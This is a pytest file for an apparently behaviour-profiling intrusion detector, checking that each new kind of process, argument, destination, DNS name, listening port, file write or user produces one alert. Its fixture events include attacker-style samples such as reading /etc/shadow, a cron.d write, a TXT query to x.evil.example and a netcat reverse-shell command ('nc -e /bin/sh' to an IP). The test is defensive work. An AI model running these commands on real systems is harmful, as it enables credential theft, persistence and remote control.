"""After lock, each kind of new behaviour is one alert, saying what the profile knew closest."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta

import pytest

from tests.fixtures.profiles import learnt_book
from tests.fixtures.traces import read_trace
from vigil.detect.profiles import ProfileBook
from vigil.models import DnsInfo, Event, EventType, FileInfo, NetworkInfo, ProcessInfo


def web_book() -> tuple[ProfileBook, Event]:
    trace = read_trace("steady-web.jsonl")
    book, clock = learnt_book(trace)
    template = trace[-1]
    clock.now = template.time + timedelta(seconds=1)
    return book, template


def server(template: Event, pid: int = 1, uid: int = 101) -> ProcessInfo:
    return ProcessInfo(pid=pid, ppid=0, uid=uid, exe="/usr/sbin/web", cmdline="web")


def child(exe: str, args: str, parent: str = "/usr/sbin/web", uid: int = 101) -> ProcessInfo:
    return ProcessInfo(
        pid=4000, ppid=1, uid=uid, exe=exe, cmdline=f"{exe} {args}", parent_exe=parent
    )


# (kind, the rule, the new event's type and details, what the message must say)
CASES = [
    (
        "process",
        "profile.new_executable",
        lambda t: replace(t, type=EventType.EXEC, process=child("/usr/bin/curl", "-s x")),
        "exec /usr/bin/curl by /usr/sbin/web; known children of /usr/sbin/web: "
        "/bin/cat, /bin/sleep, /usr/bin/gzip",
    ),
    (
        "parent",
        "profile.new_process",
        lambda t: replace(
            t,
            type=EventType.EXEC,
            process=child("/bin/cat", "/etc/web/conf.d/shop.conf", parent="/bin/sh"),
        ),
        "exec /bin/cat by /bin/sh; /bin/cat is known as a child of: /usr/sbin/web",
    ),
    (
        "arguments",
        "profile.new_arguments",
        lambda t: replace(t, type=EventType.EXEC, process=child("/bin/cat", "/etc/shadow")),
        "exec /bin/cat with '/etc/shadow'; known argument patterns of /bin/cat: "
        "'/etc/web/conf.d/admin.conf'",
    ),
    (
        "destination",
        "profile.new_destination",
        lambda t: replace(
            t,
            type=EventType.CONNECT,
            process=server(t, pid=2),
            network=NetworkInfo("tcp", "ipv4", "203.0.113.9", 5432),
        ),
        "connect tcp/203.0.113.9:5432 by /usr/sbin/web; closest known destinations: "
        "tcp/10.0.1.0/24:5432",
    ),
    (
        "dns",
        "profile.new_dns",
        lambda t: replace(
            t, type=EventType.DNS, process=server(t), dns=DnsInfo("x.evil.example", "TXT")
        ),
        "query x.evil.example (TXT) by /usr/sbin/web; closest known names: "
        "db-<num>.shop.svc.cluster.local",
    ),
    (
        "listen",
        "profile.new_listen",
        lambda t: replace(
            t,
            type=EventType.LISTEN,
            process=server(t),
            network=NetworkInfo("tcp", "ipv4", "", 0, "0.0.0.0", 4444),
        ),
        "listen tcp/4444 by /usr/sbin/web; known listening ports: tcp/8080",
    ),
    (
        "file write",
        "profile.new_file_write",
        lambda t: replace(
            t, type=EventType.OPEN, process=server(t), file=FileInfo("/etc/cron.d/job", "create")
        ),
        "write /etc/cron.d/job by /usr/sbin/web; closest known writes:",
    ),
    (
        "user",
        "profile.new_user",
        lambda t: replace(t, type=EventType.EXEC, process=child("/bin/sleep", "1", uid=0)),
        "/bin/sleep ran as uid 0; known uids: 101",
    ),
]


@pytest.mark.parametrize(("kind", "rule", "make", "says"), CASES, ids=[c[0] for c in CASES])
def test_each_kind_of_deviation_is_one_alert_for_its_first_occurrence(
    kind: str,
    rule: str,
    make: Callable[[Event], Event],
    says: str,
) -> None:
    book, template = web_book()
    event = make(template)
    (deviation,) = book.observe(event)
    assert deviation.rule == rule
    assert deviation.kind == "deviation"
    assert says in deviation.message, deviation.message
    assert deviation.message.startswith(f"new {deviation.message.split(' ')[1]}")
    # the same behaviour again, from this replica or another one, is not reported twice
    assert book.observe(event) == []
    assert event.container is not None
    other = replace(event, container=replace(event.container, id="web-z"))
    assert book.observe(other) == []
    # and the profile itself is unchanged: locked profiles do not learn
    assert book.all()[0].state.value == "locked"


def test_a_new_program_is_one_alert_whatever_arguments_it_runs_with() -> None:
    book, template = web_book()
    first = replace(template, type=EventType.EXEC, process=child("/usr/bin/nc", "-l 4444", uid=101))
    assert [d.rule for d in book.observe(first)] == ["profile.new_executable"]
    again = replace(first, process=child("/usr/bin/nc", "-e /bin/sh 10.9.9.9 80", parent="/bin/sh"))
    assert book.observe(again) == []


def test_one_event_with_two_new_items_is_two_alerts() -> None:
    book, template = web_book()
    event = replace(template, type=EventType.EXEC, process=child("/usr/bin/id", "", uid=0))
    assert sorted(d.rule for d in book.observe(event)) == [
        "profile.new_executable",
        "profile.new_user",
    ]


def test_a_known_address_range_is_no_deviation_but_its_neighbour_is() -> None:
    book, template = web_book()
    inside = replace(template, type=EventType.CONNECT, process=server(template),
                     network=NetworkInfo("tcp", "ipv4", "10.0.1.250", 5432))  # fmt: skip
    assert book.observe(inside) == []
    outside = replace(inside, network=NetworkInfo("tcp", "ipv4", "10.0.2.1", 5432))
    (deviation,) = book.observe(outside)
    assert deviation.closest == ("tcp/10.0.1.0/24:5432",)


def test_destination_deviation_names_the_dns_lookup_before_it() -> None:
    book, template = web_book()
    lookup = replace(template, type=EventType.DNS, process=server(template, pid=77),
                     dns=DnsInfo("db-3.shop.svc.cluster.local", "A"))  # fmt: skip
    assert book.observe(lookup) == []
    connect = replace(template, type=EventType.CONNECT, process=server(template, pid=77),
                      network=NetworkInfo("tcp", "ipv4", "198.51.100.7", 5432))  # fmt: skip
    (deviation,) = book.observe(connect)
    assert "(looked up as db-<num>.shop.svc.cluster.local)" in deviation.message
